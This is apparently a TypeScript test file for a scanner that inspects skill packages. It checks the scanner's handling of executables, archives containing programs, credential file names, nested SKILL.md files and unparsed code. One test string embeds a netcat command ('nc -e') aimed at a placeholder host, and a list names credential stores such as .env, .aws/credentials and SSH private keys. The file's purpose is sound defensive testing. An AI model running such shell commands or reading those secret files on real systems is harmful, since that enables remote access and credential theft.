// Guards that programs, archives, credential files and nested skills inside a skill are reported.

import { zipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import { utf8 } from '../../../../src/lib/bytes.ts'
import { refusals, scanned, seenIn } from './scanned.ts'

const bytes = (...values: readonly number[]): Uint8Array<ArrayBuffer> =>
  Uint8Array.from([...values, 0, 0, 1, 2])
const zip = (files: Readonly<Record<string, Uint8Array>>): Uint8Array<ArrayBuffer> =>
  Uint8Array.from(zipSync(files))
const ELF = bytes(0x7f, 0x45, 0x4c, 0x46)

describe('programs', () => {
  it.each([
    ['ELF', ELF],
    ['Windows', bytes(0x4d, 0x5a, 0x90)],
    ['Mach-O', bytes(0xcf, 0xfa, 0xed, 0xfe)],
    ['Mach-O, the other order', bytes(0xfe, 0xed, 0xfa, 0xce)],
    ['a fat Mach-O', bytes(0xca, 0xfe, 0xba, 0xbe)],
    ['WebAssembly', bytes(0x00, 0x61, 0x73, 0x6d)],
  ])('that are %s are refused, whatever their name', (_, content) => {
    expect(refusals('assets/a.png', content)).toEqual(['package-executable-binary'])
  })

  it('that are compiled Python, or a text named as a program, are refused', () => {
    expect(refusals('a.pyc', bytes(0xcb, 0x0d, 0x0d, 0x0a))).toEqual(['package-executable-binary'])
    expect(refusals('a.exe', 'MZ text')).toEqual(['package-executable-binary'])
  })

  it('have no other findings: their bytes are not text', () => {
    const spelled = Uint8Array.from([...ELF.slice(0, 4), ...utf8('\u007F nc -e http://a.example.org\n')])
    expect(seenIn('a.bin', spelled)).toEqual(['error package-executable-binary:null'])
    expect(seenIn('a.md', spelled)).toEqual(['error package-executable-binary:null'])
  })

  it('do not include data with part of a magic number', () => {
    expect(seenIn('a.txt', 'MZ is a prefix; so is ELF.')).toEqual([])
    expect(seenIn('a.bin', bytes(0x7f, 0x45, 0x4c))).toEqual([])
  })
})

describe('archives', () => {
  it('are warned of by name and by magic number', () => {
    for (const path of [
      'a.zip',
      'a.tar',
      'a.tar.gz',
      'a.tgz',
      'a.tar.bz2',
      'a.tbz2',
      'a.tar.xz',
      'a.txz',
      'a.7z',
      'a.rar',
      'a.whl',
    ])
      expect(seenIn(path, 'x'), path).toEqual(['warning package-nested-archive:null'])
    for (const magic of [
      [0x1f, 0x8b],
      [0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c],
      [0x50, 0x4b, 3, 4],
    ])
      expect(seenIn('a.bin', bytes(...magic))).toEqual(['warning package-nested-archive:null'])
  })

  it('that contain a program are refused, stored or deflated', () => {
    const program = Uint8Array.from({ length: 5_000 }, (_, at) => ELF[at] ?? at % 7)
    expect(refusals('a.zip', zip({ 'readme.txt': utf8('hi'), 'bin/tool': program }))).toEqual([
      'package-archive-with-program',
    ])
    expect(refusals('a.zip', Uint8Array.from(zipSync({ tool: program }, { level: 0 })))).toEqual([
      'package-archive-with-program',
    ])
    expect(refusals('slides.pptx', zip({ 'ppt/a.bin': program }))).toEqual(['package-archive-with-program'])
  })

  it('that contain texts are only warned of, and documents that are zips inside pass', () => {
    expect(seenIn('a.zip', zip({ 'a.txt': utf8('hi') }))).toEqual(['warning package-nested-archive:null'])
    expect(seenIn('a.docx', zip({ 'word/document.xml': utf8('<a/>') }))).toEqual([])
  })

  it('that cannot be read completely are reported', () => {
    const [finding] = scanned({ 'a.zip': zip({ a: utf8('hi') }).slice(0, 40) })
    expect(finding?.message).toContain('could not be looked into')
  })
})

describe('names', () => {
  it.each([
    '.env',
    'a/.env.production',
    'a/.npmrc',
    '.pypirc',
    '.netrc',
    '.aws/credentials',
    '.git-credentials',
    '.htpasswd',
    'keys/id_rsa',
    'id_ed25519',
  ])('such as %s, for credentials, are refused', (path) => {
    const [finding, ...others] = scanned({ [path]: 'x' })
    expect(finding).toMatchObject({ rule: 'package-hidden-sensitive-file', severity: 'error' })
    expect(finding?.fix).toContain('*.example')
    expect(others).toEqual([])
  })

  it('of a repository are refused, of a possible credential file warned of, and samples pass', () => {
    expect(seenIn('a/.git/HEAD', 'x')).toEqual(['error package-git-directory:null'])
    expect(seenIn('.git/config', 'x')).toEqual(['error package-git-directory:null'])
    expect(seenIn('a/credentials', 'x')).toEqual(['warning package-maybe-sensitive-file:null'])
    for (const path of [
      '.env.example',
      '.env.sample',
      '.env.template',
      'id_rsa.pub',
      'env.md',
      'credentials.md',
      '.gitignore',
      '.github/a.yml',
    ])
      expect(seenIn(path, 'x'), path).toEqual([])
  })

  it('of a second SKILL.md, which nothing loads, are noted, but not in a fixture of an evaluation', () => {
    expect(seenIn('other/SKILL.md', '# x')).toEqual(['note package-nested-skill-md:null'])
    expect(seenIn('evals/fixtures/a/SKILL.md', '# x')).toEqual([])
    expect(seenIn('SKILL.md', '# x')).toEqual([])
  })
})

describe('code that is not parsed', () => {
  it.each(
    'a.rb a.php a.pl a.ps1 a.lua a.ipynb a.go a.rs a.java a.swift a.jl a.applescript a.vue a.html a.zig Makefile Dockerfile'.split(
      ' ',
    ),
  )('is reported: %s', (path) => {
    expect(seenIn(path, 'x')).toEqual(['note code-not-scanned:null'])
  })

  it('is recognized by its first line, too, and parsed code or other text is not reported', () => {
    expect(seenIn('bin/run', '#!/usr/bin/env ruby\nputs 1')).toEqual(['note code-not-scanned:null'])
    for (const path of 'a.py a.ts a.sh a.txt a.json a.md LICENSE .gitignore a.csv a.css a.yaml'.split(' '))
      expect(seenIn(path, ''), path).toEqual([])
  })

  it('is reported in fences, once a language', () => {
    const fences = ['ruby', 'powershell', 'ruby', 'json', 'text', 'c++'].map(
      (name) => `\`\`\`${name}\nx\n\`\`\``,
    )
    expect(seenIn('a.md', fences.join('\n'))).toEqual([
      'note code-not-scanned:1',
      'note code-not-scanned:4',
      'note code-not-scanned:16',
    ])
  })
})
